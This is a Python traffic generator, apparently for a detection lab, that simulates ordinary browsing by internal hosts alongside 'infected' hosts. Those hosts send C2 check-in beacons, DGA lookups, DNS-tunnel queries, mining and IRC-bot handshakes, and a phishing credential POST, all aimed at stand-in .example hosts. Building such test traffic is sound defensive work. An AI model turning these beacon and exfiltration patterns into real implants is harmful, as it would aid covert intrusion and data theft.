#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""What the machines inside do: they browse, look names up, read mail; some are infected, some are deceived.

    inside.py --seconds 200
"""
import argparse
import http.client
import random
import socket
import ssl
import string
import struct
import time

CLIENTS = [f"10.20.40.{n}" for n in range(21, 61)] + [f"2001:db8:20:40::{n}" for n in range(21, 31)]
FOUR = [c for c in CLIENTS if "." in c]
INFECTED = FOUR[:9]
RESOLVER = "192.88.99.53"
BROWSERS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/130.0", "Mozilla/5.0 (Android 14; Mobile) Firefox/132.0"]


def look_up(client, name, kind=1):
    wire = struct.pack("!6H", random.randrange(65536), 0x0100, 1, 0, 0, 0)
    wire += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack("!2H", kind, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.bind((client, 0))
        s.settimeout(1)
        s.sendto(wire, (RESOLVER, 53))
        try:
            s.recv(2048)
        except OSError:
            pass


def fetch(client, host, where, path, method="GET", body=None, port=80, agent=None):
    link = http.client.HTTPConnection(where, port, timeout=5, source_address=(client, 0))
    headers = {"Host": host, "User-Agent": agent or random.choice(BROWSERS)}
    if body:
        headers["Content-Type"] = "application/x-www-form-urlencoded"
    try:
        link.request(method, path, body=body, headers=headers)
        link.getresponse().read()
    except (OSError, http.client.HTTPException):
        pass
    finally:
        link.close()


def greet(client, name, where):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    try:
        with socket.create_connection((where, 443), 5, (client, 0)) as raw, context.wrap_socket(raw, server_hostname=name) as tls:
            tls.sendall(b"GET / HTTP/1.1\r\nHost: " + name.encode() + b"\r\nConnection: close\r\n\r\n")
            while tls.recv(4096):
                pass
    except OSError:
        pass


def talk(client, where, port, lines):
    try:
        with socket.create_connection((where, port), 5, (client, 0)) as s:
            s.settimeout(2)
            for line in lines:
                s.sendall(line)
                s.recv(2048)
    except OSError:
        pass


def browse(dice):
    client = dice.choice(CLIENTS)
    if ":" in client:
        return fetch(client, "bao-moi.example", "2001:db8:c2::20", dice.choice(["/", "/robots.txt"]))
    look_up(client, dice.choice(["bao-moi.example", "www.ngan-hang.example", "truong-hoc.example", "khong-co.example"]), dice.choice([1, 28]))
    if dice.random() < 0.5:
        return greet(client, "www.ngan-hang.example", "192.88.99.20")
    return fetch(client, "bao-moi.example", "192.88.99.20", dice.choice(["/", "/lich-hoc.pdf", "/robots.txt", "/khong-co"]))


def beacon(dice):
    client = dice.choice(INFECTED)
    look_up(client, "c2.den-do.example")
    fetch(client, "c2.den-do.example", "192.88.99.61", "/gate/checkin", "POST", f"id={client}&v=HAIDANG-TEST-BEACON",
          dice.choice([80, 8080]), "HDImplant/1.0")


def machine_made(dice):
    client = dice.choice(INFECTED[:4])
    for _ in range(5):
        label = "".join(dice.choices(string.ascii_lowercase + string.digits, k=dice.randrange(18, 28)))
        look_up(client, f"{label}.{dice.choice(['top', 'xyz', 'example'])}")


def tunnel(dice):
    for _ in range(3):
        look_up(INFECTED[4], "".join(dice.choices("abcdef0123456789", k=50)) + ".tun.den-do.example", 16)


def mine(dice):
    talk(dice.choice(INFECTED[5:7]), "192.88.99.62", 3333, [
        b'{"id":1,"method":"mining.subscribe","params":["demo/1.0"]}\n', b'{"id":2,"method":"mining.authorize","params":["demo","x"]}\n'])


def chat_bot(dice):
    nick = f"NICK HD|{dice.randrange(10**6):06d}\r\nUSER hd 0 * :hd\r\n"
    talk(dice.choice(INFECTED[6:]), "192.88.99.63", 6667, [nick.encode(), b"JOIN #den\r\n"])


def download(dice):
    client = dice.choice(FOUR)
    look_up(client, "tai-ve.example")
    fetch(client, "tai-ve.example", "192.88.99.60", dice.choice(["/hoa-don.com", "/hoa-don.com", "/anh-dep.jpg"]))


def deceived(dice):
    client = dice.choice(FOUR)
    if dice.random() < 0.5:
        look_up(client, "dang-nhap-ngan-hang.example")
        return greet(client, "dang-nhap-ngan-hang.example", "192.88.99.20")
    look_up(client, "ngan-hang-so.example")
    return fetch(client, "ngan-hang-so.example", "192.88.99.60", "/", "POST", "tendangnhap=nguyen.van.a&matkhau=demo")


def implant_tls(dice):
    greet(dice.choice(INFECTED), "c2.den-do.example", "192.88.99.61")


def outside_address(dice):
    fetch(dice.choice(INFECTED), "dia-chi-cua-toi.example", "192.88.99.20", "/", agent="curl/7.88.1")


def share_files(dice):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.bind((dice.choice(FOUR), 6881))
        s.settimeout(1)
        s.sendto(b"d1:ad2:id20:abcdefghij0123456789e1:q4:ping1:t2:aa1:y1:qe", ("192.88.99.64", 6881))
        try:
            s.recv(2048)
        except OSError:
            pass


HABITS = [(browse, 30), (beacon, 22), (machine_made, 6), (tunnel, 5), (mine, 4), (chat_bot, 4), (download, 7), (deceived, 7),
          (implant_tls, 5), (outside_address, 3), (share_files, 2)]


def main():
    args = argparse.ArgumentParser()
    args.add_argument("--seconds", type=float, default=200)
    args.add_argument("--seed", type=int, default=2)
    args.add_argument("--pause", type=float, default=0.12)
    opt = args.parse_args()
    dice = random.Random(opt.seed)
    until = time.monotonic() + opt.seconds
    while time.monotonic() < until:
        dice.choices([h for h, _ in HABITS], [w for _, w in HABITS])[0](dice)
        time.sleep(dice.uniform(0, 2 * opt.pause))


main()
